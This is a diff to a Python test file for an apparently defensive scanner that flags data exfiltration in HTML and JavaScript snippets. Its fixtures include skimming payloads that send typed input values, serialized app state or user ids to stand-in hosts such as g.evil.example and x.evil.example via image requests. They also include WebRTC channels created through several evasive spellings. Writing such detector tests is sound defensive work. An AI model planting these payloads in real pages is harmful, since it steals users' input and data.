@@ -152,6 +152,9 @@ def rules_of(source: str, **kw) -> list[tuple[str, str, list[str], list[str]]]:
      "m.addEventListener('blur', () => { new Image().src = 'https://m.evil.example/?t=' + btoa(m.innerText); });</script>",
      ["input:#m"]),
     ("<textarea oninput=\"new Image().src = 'https://h.evil.example/' + event.data\"></textarea>", ["input:input"]),
+    # `this` in a listener (a function, not an arrow) is the control it listens on.
+    ("<input id=gift><script>document.getElementById('gift').addEventListener('input', function () {\n"
+     "  new Image().src = 'https://g.evil.example/?' + this.value; });</script>", ["input:#gift"]),
 ])
 def test_what_the_user_types_is_a_source(source, inputs):
     found = [r for r in rules_of(source) if r[0] == "exfil.input-to-url"]
@@ -240,6 +243,27 @@ def test_from_char_code_on_data_is_not_obfuscation():
     assert rules_of(tool) == []
     hidden = "<script>const h = String.fromCharCode(104, 116, 116, 112, 115);</script>"
     assert [r[0] for r in rules_of(hidden)] == ["obfuscation.decode"]
+
+
+def test_the_bridge_object_handed_to_the_platform_reads_the_whole_state():
+    # JSON.stringify reads the enumerable `state` getter: the whole state, not a marker.
+    source = "<p></p><script>new Image().src = 'https://x.evil.example/?' + btoa(JSON.stringify(flowUi));</script>"
+    assert ("exfil.state-to-url", "high", ["(the whole state)"], ["x.evil.example"]) in rules_of(source)
+    # flowUi as the `this` of a call is the getter's own case: the path it gets, not the whole state.
+    got = "<p></p><script>new Image().src = 'https://x.evil.example/?' + flowUi.get.call(flowUi, 'order.total');</script>"
+    assert ("exfil.state-to-url", "high", ["order.total"], ["x.evil.example"]) in rules_of(got, fields=["order.total"])
+
+
+@pytest.mark.parametrize("spelling", [
+    "Reflect.construct(RTCPeerConnection, [{iceServers: []}])",
+    "const {RTCPeerConnection: P} = window; new P({iceServers: []})",
+    "const P = window.RTCPeerConnection; new P()",
+    "new (globalThis['RTCPeerConnection'])({iceServers: [{urls: 'stun:' + id + '.evil.example'}]})",
+    "const P = Reflect.get(self, 'webkitRTCPeerConnection'); new P()",
+])
+def test_webrtc_reached_as_a_value_is_a_channel_carrying_what_the_block_reads(spelling):
+    found = rules_of(f"<p></p><script>const id = flowUi.get('user.id'); {spelling};</script>", fields=["user.id"])
+    assert [(r[0], r[1], r[2]) for r in found if r[0] == "channel.webrtc"] == [("channel.webrtc", "high", ["user.id"])], found
 
 
 def test_webrtc_names_what_it_carries():
